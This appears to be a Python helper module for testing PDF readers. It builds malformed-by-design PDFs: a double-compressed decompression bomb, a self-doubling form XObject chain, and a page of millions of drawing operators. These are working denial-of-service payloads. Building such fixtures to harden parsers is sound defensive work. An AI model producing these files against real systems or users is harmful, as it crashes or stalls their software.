"""Small PDFs that are large inside: what they unpack to, or what they make a reader do, is what makes them dangerous."""

import zlib
from pathlib import Path

MEGABYTE = 1024 * 1024


def unpacks_to_too_much(path: Path, megabytes: int) -> None:
    """A page whose content is `megabytes` of white space, packed twice."""
    packer = zlib.compressobj(1)
    once = b"".join(packer.compress(b" " * MEGABYTE) for _ in range(megabytes)) + packer.flush()
    _write(path, _stream("/Filter [/FlateDecode /FlateDecode]", zlib.compress(once, 9)))


def doubles_at_each_level(path: Path, levels: int) -> None:
    """A form that draws a form twice, and so on: 2^levels drawings."""
    forms = []
    for level in range(levels):
        last = level == levels - 1
        resources = "" if last else f"/Resources << /XObject << /X {6 + level} 0 R >> >>"
        drawing = b"0 0 m 1 1 l S" if last else b"/X Do /X Do"
        forms.append(_stream(f"/Type /XObject /Subtype /Form /BBox [0 0 612 792] {resources}", drawing))
    _write(path, _stream("", b"/X Do"), b"<< /XObject << /X 5 0 R >> >>", forms)


def draws_millions_of_lines(path: Path, millions: int) -> None:
    """A page that takes a reader very long and little memory to draw."""
    content = b"0 0 m 600 700 l S " * (millions * 1_000_000)
    _write(path, _stream("/Filter [/FlateDecode /FlateDecode]", zlib.compress(zlib.compress(content, 9), 9)))


def _stream(entries: str, data: bytes) -> bytes:
    return f"<< {entries} /Length {len(data)} >>\nstream\n".encode() + data + b"\nendstream"


def _write(path: Path, content: bytes, resources: bytes = b"<< >>", more: list[bytes] | None = None) -> None:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources " + resources + b" >>"
    tree = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"]
    body, places = b"%PDF-1.7\n", []
    for number, entry in enumerate([*tree, page, content, *(more or [])], 1):
        places.append(len(body))
        body += f"{number} 0 obj\n".encode() + entry + b"\nendobj\n"
    table = b"".join(f"{place:010d} 00000 n \n".encode() for place in places)
    head = f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n".encode()
    tail = f"trailer\n<< /Size {len(places) + 1} /Root 1 0 R >>\nstartxref\n{len(body)}\n%%EOF".encode()
    path.write_bytes(body + head + table + tail)
